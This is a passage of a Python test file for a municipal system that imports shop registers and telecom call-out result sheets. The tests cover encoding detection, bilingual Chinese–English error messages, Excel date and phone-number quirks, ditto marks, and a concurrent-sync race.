    second header row, dropped without a word. Such a row is imported; a row that is the header again (sheets pasted
    one below the other) is skipped with a warning naming its row, wherever it is."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    header = "name,address,licence_no,camera,polygon\n"
    sheet = (header + 'Shop,文三路 1 号,91330106MA27XY0001,cam-01,"0.1,0.5; 0.4,0.5; 0.4,0.9"\n'
             + header + '李家水果,文三路 3 号,91330106MA27XY0002,cam-01,"0.5,0.5; 0.8,0.5; 0.8,0.9"\n')
    report = register.import_file(sheet.encode("utf-8"), "shops.csv")
    assert report.errors == [] and sorted(report.imported) == ["91330106MA27XY0001", "91330106MA27XY0002"]
    assert register.get("91330106MA27XY0001").name == "Shop"
    assert report.warnings == ["shops.csv 第 3 行与表头相同，已跳过 — shops.csv: row 3 repeats the header, skipped"]
    calls = _flyposting_list(tmp_path)
    results = "号码,状态,备注\n13800138000,已停机,备注\n号码,状态,备注\n13800138001,已追呼,\n".encode("utf-8")
    report = calls.import_results(results, "结果.csv")
    assert sorted(report.applied) == ["13800138000", "13800138001"] and report.errors == []
    assert calls.get("13800138000").status is Status.CUT_OFF
    assert english(report.warnings) == ["结果.csv: row 3 repeats the header, skipped"]


def test_call_out_import_reads_dates_as_excel_and_wps_keep_them(tmp_path):
    """The operator's result sheet with its 停机时间 column formatted as General holds Excel date numbers (46338.4375,
    also what a CSV saved from it says), and WPS's Chinese date format writes 2026年11月12日 10:30: both were refused
    as 'not a date/time'. A number that is no date of this century is still refused, naming the forms read."""
    calls = _flyposting_list(tmp_path)
    book = Workbook()
    book.active.append(["号码", "状态", "停机时间"])
    book.active.append(["+86 138 0013 8000", "已停机", 46338.4375])
    book.active.append(["138-0013-8001", "已停机", "2026年11月12日 10:30"])
    book.active.append(["13800138002", "已停机", 2026])
    buf = io.BytesIO()
    book.save(buf)
    report = calls.import_results(buf.getvalue(), "结果.xlsx")
    assert sorted(report.applied) == ["13800138000", "13800138001"]
    for number in report.applied:
        assert calls.get(number).cut_off_at.astimezone(calls.tz).strftime("%Y-%m-%d %H:%M:%S") == "2026-11-12 10:30:00"
    assert english(report.errors) == ["结果.xlsx: row 4: cut_off_at: 2026 is not a date/time (YYYY-MM-DD[ HH:MM], 2026/11/12 10:20, "
                             "2026年11月12日 10:20 or an Excel date)"]
    assert calls.get("13800138002").status is Status.TO_CALL
    csv_data = "号码,状态,停机时间\n13800138002,已停机,46338.4375\n".encode("utf-8-sig")
    assert calls.import_results(csv_data, "结果.csv").applied == ["13800138002"]


def test_register_saved_on_an_english_windows_is_read_as_windows_1252(tmp_path):
    """An older list exported from an English Excel is a plain "CSV" in Windows-1252 (é, £). It was read as GB18030:
    bytes that are none of it refused the file as 'neither UTF-8 nor GBK', and where GB18030 read it, a header's note
    (`name [Société]`) became Chinese characters and the header was missing its name column. Windows-1252 is read
    where GB18030 does not read the file or finds no header in it; a header no encoding finds says which were tried."""
    from detect.config_io import ConfigError

    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    noted = tmp_path / "shops-2019.csv"  # GB18030 reads every byte of it, wrongly
    noted.write_text('name [Société],address,licence_no,camera,polygon\n'
                     'Crème Brûlée,12 Rue de la Paix,91330106MA27XY0011,cam-01,"[[0.1, 0.5], [0.4, 0.5], [0.4, 0.9]]"\n',
                     encoding="cp1252")
    assert register.import_file(noted.read_bytes(), noted.name).imported == ["91330106MA27XY0011"]
    assert register.get("91330106MA27XY0011").name == "Crème Brûlée"
    priced = tmp_path / "shops-2020.csv"  # GB18030 cannot read it
    priced.write_text('name,address,licence_no,camera,polygon\n'
                      'Café Rouge,£5 Lane 3,91330106MA27XY0012,cam-01,"[[0.1, 0.5], [0.4, 0.5], [0.4, 0.9]]"\n', encoding="cp1252")
    assert register.import_file(priced.read_bytes(), priced.name).imported == ["91330106MA27XY0012"]
    assert register.get("91330106MA27XY0012").address == "£5 Lane 3"
    unknown = tmp_path / "shops-2021.csv"
    unknown.write_text("shop name,address\nCafé Rouge,£5 Lane 3\n", encoding="cp1252")
    with pytest.raises(ConfigError, match=r"^shops-2021\.csv：表头缺少列 店名（已尝试 UTF-8、GB18030 \(GBK\)、Windows-1252 编码） — "
                                          r"shops-2021\.csv: header: missing column\(s\) name \(.*\) \(tried UTF-8, GB18030 \(GBK\), Windows-1252\)$"):
        register.import_file(unknown.read_bytes(), unknown.name)
    gbk = tmp_path / "门前三包.csv"  # a Chinese office's GBK sheet is still GBK
    gbk.write_text(REGISTER, encoding="gbk")
    assert register.import_file(gbk.read_bytes(), gbk.name).imported and register.get("91330106MA27XY0001").name == "王记面馆"


def test_a_sheet_gbk_and_windows_1252_both_read_is_read_as_charset_normalizer_takes_it(tmp_path):
    """A Windows-1252 sheet with an English header and accented names reads as GB18030 too, header and all, and GB18030,
    taken first, imported `Cr鑝e de la Cr鑝e`. charset_normalizer, given only those two, now chooses: this one is read
    as Windows-1252, and a GBK sheet of Chinese names under an English header still as GB18030; each warns, naming the
    encoding taken, quoting a cell both ways and how to read it the other way (`--encoding`, which wins). An encoding
    not one of the three is refused naming it; a GBK sheet with a Chinese header gets no warning."""
    from detect.config_io import ConfigError

    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    gps = '"120.1550,30.2740; 120.1552,30.2740; 120.1552,30.2742"'
    names = ["Crème de la Crème", "Brasserie Côte", "Smørrebrød Hus", "Über Döner", "Crêperie Ty Breizh"]
    sheet = "name,address,licence_no,gps_polygon\r\n" + "".join(
        f"{n},Rue {i},91330106MA27XY002{i},{gps}\r\n" for i, n in enumerate(names))
    data = sheet.encode("cp1252")
    report = register.import_file(data, "shops-paris.csv")
    assert [register.get(s).name for s in report.imported] == names
    assert report.warnings == [
        "shops-paris.csv：已按 Windows-1252 编码读取（“Crème de la Crème”），但它也可按 GB18030 (GBK) 读取（“Cr鑝e de la Cr鑝e”）；"
        "若后者才对，请指定编码 gbk 重新导入（命令行 --encoding gbk，/ui/city 页面导入旁的“编码”选 GBK），或另存为“CSV UTF-8” — "
        "shops-paris.csv: read as Windows-1252 ('Crème de la Crème'), but it reads as GB18030 (GBK) too ('Cr鑝e de la Cr鑝e'); "
        "if that is right, import it again with encoding gbk (--encoding gbk on the command line, 编码 GBK beside the import "
        "on /ui/city, form field encoding=gbk in the API), or save it as \"CSV UTF-8\""]
    assert register.import_file(data, "shops-paris.csv", encoding="gbk").warnings == []  # the encoding given wins
    assert register.get("91330106MA27XY0020").name == "Cr鑝e de la Cr鑝e"
    chinese_names = register.import_file(REGISTER.encode("gbk"), "门前三包.csv")
    assert register.get("91330106MA27XY0001").name == "王记面馆" and chinese_names.warnings[-1].startswith(
        "门前三包.csv：已按 GB18030 (GBK) 编码读取（“王记面馆”），但它也可按 Windows-1252 读取（“Íõ¼ÇÃæ¹Ý”）；若后者才对，请指定编码 cp1252")
    for given in ("cp1252", "Windows-1252"):
        again = register.import_file(data, "shops-paris.csv", encoding=given)
        assert again.warnings == [] and register.get("91330106MA27XY0020").name == "Crème de la Crème"
    assert register.import_file(sheet.encode("utf-8"), "shops-paris.csv", encoding="utf8").warnings == []
    for file in ("shops-paris.csv", "shops-paris.xlsx"):  # an Excel file has no encoding, but one that names none is refused too
        with pytest.raises(ConfigError, match=r"^编码 'latin-9' 不可用，请用 utf-8、gbk 或 cp1252 — encoding 'latin-9': use utf-8, gbk or cp1252$"):
            register.import_file(data, file, encoding="latin-9")
    with pytest.raises(ConfigError, match=r"^编码 'utf-8\\x00' 不可用"):  # not Python's ValueError (a 500 in the API)
        register.import_file(data, "shops-paris.csv", encoding="utf-8\x00")
    with pytest.raises(ConfigError, match=r"^shops-paris\.csv：不是 UTF-8 编码的 CSV 文本"):  # the encoding given, alone
        register.import_file(data, "shops-paris.csv", encoding="utf-8")
    chinese = "店名,地址,GPS范围\r\n老王烧烤,建国路 88 号,\"120.1550,30.2740; 120.1552,30.2740; 120.1552,30.2742\"\r\n".encode("gbk")
    assert register.import_file(chinese, "门前三包.csv").warnings == []

    calls = _flyposting_list(tmp_path)
    results = "number,status,note\r\n13800138000,cut_off,Mme Hélène\r\n".encode("cp1252")
    report = calls.import_results(results, "results.csv")
    assert report.applied == ["13800138000"] and report.as_dict()["warnings"] == report.warnings
    # charset_normalizer takes this one short note for GB18030 (as 3 of the 1006 Windows-1252 sheets measured): the warning says how else
    assert len(report.warnings) == 1 and "('Mme Hélène')" in report.warnings[0] and "--encoding cp1252" in report.warnings[0]
    assert calls.import_results(results, "results.csv", encoding="cp1252").warnings == []
    assert calls.get("13800138000").note == "Mme Hélène"


def test_register_saved_as_plain_csv_on_a_chinese_pc_is_read_and_errors_are_chinese_first(tmp_path):
    """Excel and WPS save a plain "CSV" on a Chinese Windows as GBK, the office's default: it was refused whole, in
    English, on a page city staff read. It is read (GB18030, GBK's superset), its refused rows say why in Chinese first,
    naming file, row and column, then the English; bytes that are neither UTF-8 nor GBK are refused in Chinese."""
    from detect.config_io import ConfigError

    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    report = register.import_file(REGISTER.encode("gbk"), "门前三包.csv")
    assert sorted(report.imported) == ["91330106MA27XY0001", "91330106MA27XY0002"]
    assert register.get("91330106MA27XY0001").name == "王记面馆"
    assert report.errors[0] == ("门前三包.csv 第 5 行「图像范围」：没有可用的门前范围：请填写图像范围（及摄像头）或 GPS范围 — "
                                "门前三包.csv: row 5: polygon: no usable frontage: give `polygon` (with `camera`) or `gps_polygon`")
    with pytest.raises(ConfigError, match=r"^门前三包\.csv：不是 UTF-8、GB18030 \(GBK\)、Windows-1252 编码的 CSV 文本.* — "
                                          r"门前三包\.csv: not UTF-8, GB18030 \(GBK\), Windows-1252 text"):
        register.import_file("店名\n王记".encode("utf-16"), "门前三包.csv")
    with pytest.raises(ConfigError, match=r"^shops\.csv：表头缺少列 店名 — shops\.csv: header: missing column\(s\) name"):
        register.import_file(b"shop_name,address\nx,y\n", "shops.csv")

    calls = _flyposting_list(tmp_path)
    results = "号码,状态,罚款金额\n13900009999,已停机,\n13800138000,已停机,两百\n".encode("gbk")
    report = calls.import_results(results, "结果.csv")
    assert report.errors == [
        "结果.csv 第 2 行「号码」：13900009999 不在追呼清单上（没有小广告案件带有这个号码） — "
        "结果.csv: row 2: number 13900009999: not on the call-out list (no flyposting case carries it)",
        "结果.csv 第 3 行「罚款金额」：'两百' 不是以元计的金额（如 200 或 200元） — "
        "结果.csv: row 3: amount: '两百' is not an amount in yuan (e.g. 200 or 200元)"]


def test_register_phone_kept_as_a_number_gets_its_leading_0_back_or_a_warning(tmp_path):
    """Excel keeps a typed phone number as a number, so a landline loses its trunk 0: 57187654321 was registered as the
    shop's contact, a number nobody can call, without a word. The numbering plan tells it back as the call-out list
    writes it (0571-87654321); digits it cannot tell (5718765432: Hangzhou's numbers have 8 digits) are kept, the row
    imported with a warning naming it."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    book = Workbook()
    book.active.append(["店名", "营业执照号", "联系人", "联系电话", "GPS范围"])
    gps = "120.1550,30.2740; 120.1552,30.2740; 120.1552,30.2742"
    book.active.append(["王记面馆", "91330106MA27XY0001", "王师傅", 57187654321, gps])
    book.active.append(["李家水果", "91330106MA27XY0002", "李女士", 5718765432, gps])
    book.active.append(["张记五金", "91330106MA27XY0003", "张先生", 13900001111, gps])
    buf = io.BytesIO()
    book.save(buf)
    report = register.import_file(buf.getvalue(), "门前三包.xlsx")
    assert len(report.imported) == 3 and report.errors == []
    assert register.get("91330106MA27XY0001").contact == "王师傅 0571-87654321"
    assert register.get("91330106MA27XY0002").contact == "李女士 5718765432"  # kept as given: nothing accepted is lost
    assert register.get("91330106MA27XY0003").contact == "张先生 13900001111"
    assert report.warnings == ["门前三包.xlsx 第 3 行「联系人」：5718765432 不是有效的电话号码：表格把号码存成数字时会丢掉开头的 0，"
                               "请核对后改为文本重新导入 — 门前三包.xlsx: row 3: contact: 5718765432 is not a valid phone number: "
                               "a spreadsheet keeping it as a number drops a leading 0; check it and import it as text"]


def test_call_out_import_reads_the_operators_words_for_a_status(tmp_path):
    """The operator's sheet says 停机 and 复机, not the list's own 已停机 and 罚款后复机: such rows were refused, the
    cut-offs not applied. The common words read as their status (`STATUS_WORDS`); a word none of them is still
    refused, naming the words read."""
    calls = _flyposting_list(tmp_path)
    results = "号码,状态\n13800138000,停机\n13800138001, 已复机 \n13800138002,CUT_OFF\n".encode()
    report = calls.import_results(results, "结果.csv")
    assert sorted(report.applied) == ["13800138000", "13800138001", "13800138002"] and report.errors == []
    assert [calls.get(f"1380013800{i}").status for i in range(3)] == [Status.CUT_OFF, Status.RECONNECTED_AFTER_FINE, Status.CUT_OFF]
    report = calls.import_results("号码,状态\n13800138000,欠费\n".encode(), "结果.csv")
    [error] = report.errors
    assert error.startswith("结果.csv 第 2 行「状态」：'欠费' 不是可用的状态（待追呼、已追呼、已停机、罚款后复机、已罚款、停机、")
    assert "status: '欠费' is not one of to_call, called, cut_off, reconnected_after_fine, fined (待追呼" in error
    assert calls.get("13800138000").status is Status.CUT_OFF


def test_register_rows_saying_as_above_join_the_shop_above(tmp_path):
    """An office writes a shop's second frontage under its first with the address left blank or 同上 (ditto), often
    without a licence number: each became another shop, without licence number (or with 同上 as its address). A ditto
    mark is the value above; a blank under the same shop (same name, nothing contradicting it) is that shop's; a blank
    under another shop stays blank, and a ditto with nothing above to copy refuses the row, naming the column."""
    gps = "120.1550,30.2740; 120.1552,30.2740; 120.1552,30.2742"
    sheet = ("店名,地址,营业执照号,GPS范围\n"
             f"同上,文三路 0 号,,\"{gps}\"\n"                            # row 2: nothing above: refused
             f"王记面馆,文三路 1 号,91330106MA27XY0001,\"{gps}\"\n"
             f"王记面馆,同上,,\"{gps}\"\n"                               # row 4: ditto, same shop
             f"王记面馆,,,\"{gps}\"\n"                                   # row 5: blank under the same shop
             f"李家水果,〃,,\"{gps}\"\n"                                 # row 6: ditto under another shop: its address
             f"张记五金,,,\"{gps}\"\n"                                   # row 7: blank under another shop: stays blank
             f"张记五金,文三路 5 号,,\"{gps}\"\n")                        # row 8: its own address: not the blank one above
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    report = register.import_file(sheet.encode(), "门前三包.csv")
    assert report.errors == ["门前三包.csv 第 2 行「店名」：写的是「同上」（同上），但上一行没有可沿用的店名：请填写店名 — "
                             "门前三包.csv: row 2: name: '同上' (ditto) but the row above gives none to copy: write it out"]
    shops = {s.name + (s.address or ""): s for s in register.list()}
    assert sorted(shops) == ["张记五金", "张记五金文三路 5 号", "李家水果文三路 1 号", "王记面馆文三路 1 号"]
    assert len(shops["王记面馆文三路 1 号"].frontages) == 3 and shops["王记面馆文三路 1 号"].id == "91330106MA27XY0001"
    assert shops["李家水果文三路 1 号"].licence_no is None


def test_two_syncs_of_the_call_out_list_at_once_both_answer(fresh_postgres_url):
    """Soak: two clerks opening the city page at once (GET /callout syncs the list first, as its export does) both
    looked for a new number before either wrote it, and the second insert failed on the key: a 500 (IntegrityError
    UniqueViolation on callout_numbers_pkey). Held at a barrier so the race happens every run; both lists answer, the
    number once. PostgreSQL: SQLite's writers queue (BEGIN IMMEDIATE), the second looking after the first wrote."""
    import threading

    import sqlalchemy as sa

    from tests.analytics_helpers import G1, CaseMaker, local

    store = CaseStore(fresh_postgres_url)
    CaseMaker(store).add("flyposting", G1, local(3), phones=["13800138000"])
    both_looked = threading.Barrier(2, timeout=30)

    @sa.event.listens_for(store.engine, "before_cursor_execute")
    def _wait_for_the_other(conn, cursor, statement, *_):
        if statement.startswith("INSERT INTO callout_numbers") and threading.current_thread().name.startswith("sync-"):
            both_looked.wait()

    outcomes: list = []

    def sync() -> None:
        try:
            outcomes.append(CallOutList(store.engine).sync())
        except Exception as exc:  # noqa: BLE001 - the outcome compared
            outcomes.append(f"{type(exc).__name__}: {exc}"[:200])

    threads = [threading.Thread(target=sync, name=f"sync-{i}") for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert outcomes == [1, 1]
    assert [e.number for e in CallOutList(store.engine).entries()] == ["13800138000"]
    store.close()


def test_a_shop_field_typed_over_several_lines_is_folded_to_one_on_import_and_said(tmp_path):
    """A shop's name, address, licence number or contact goes into the warnings' notices, the reports' sheets and the
    cases a platform gets as one line, but a cell typed with Alt+Enter (a name over two lines of its sign) or a
    quoted CSV cell with a line break was kept with it, breaking them. An import folds each such cell to one line
    (a space for each run of breaks and tabs) and says so among its warnings, row and column named; the row is
    imported, not refused. Excel and CSV alike."""
    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    gps = "120.1550,30.2740; 120.1552,30.2740; 120.1552,30.2742"
    book = Workbook()
    sheet = book.active
    sheet.append(["店名", "地址", "联系人", "GPS范围"])
    sheet.append(["王记\n面馆", "文三路 1 号\r\n（北门）", "王师傅\t13900001111", gps])
    sheet.append(["李家水果", "文三路 3 号", "李女士", gps])
    data = io.BytesIO()
    book.save(data)
    csv_sheet = f'name,address,gps_polygon\n"张记\n\n五金 ",文三路 5 号,"{gps}"\n'
    for report, name in ((register.import_file(data.getvalue(), "shops.xlsx"), "shops.xlsx"),
                         (register.import_file(csv_sheet.encode(), "shops.csv"), "shops.csv")):
        assert not report.errors and len(report.imported) == (2 if name == "shops.xlsx" else 1), report.errors
    shops = {s.name: s for s in register.list()}
    assert sorted(shops) == ["张记 五金", "李家水果", "王记 面馆"]
    assert (shops["王记 面馆"].address, shops["王记 面馆"].contact) == ("文三路 1 号 （北门）", "王师傅 13900001111")
    folded = "含换行，已合并为一行（换行改为空格）"
    assert report.warnings == [f"shops.csv 第 2 行「店名」：{folded} — shops.csv: row 2: name: line breaks folded to one line (each a space)"]
    xlsx = register.import_file(data.getvalue(), "shops.xlsx").warnings
    assert [w.split(" — ")[0] for w in xlsx] == [f"shops.xlsx 第 2 行「{column}」：{folded}" for column in ("店名", "地址", "联系人")]


def test_a_shop_stored_with_a_line_break_is_still_listed_as_one_line(tmp_path):
    """A shop saved while its fields could hold line breaks is not lost now they are one line: the register reads it
    folded, as an import folds a cell, and the service lists it (a refusal on reading would have hidden the whole
    register)."""
    from pipelines.cases.schema import shops

    register = ShopRegister(CaseStore(f"sqlite:///{tmp_path}/cases.db").engine)
    with register.engine.begin() as conn:
        conn.execute(shops.insert().values(id="old-1", name="老店\n分号", address="文三路\t7 号", licence_no=None, contact=None,
                                           frontages=[], updated_at=datetime.now(UTC)))
    [shop] = register.list()
    assert (shop.id, shop.name, shop.address) == ("old-1", "老店 分号", "文三路 7 号")
    register.put(shop)
    assert register.get("old-1") == shop
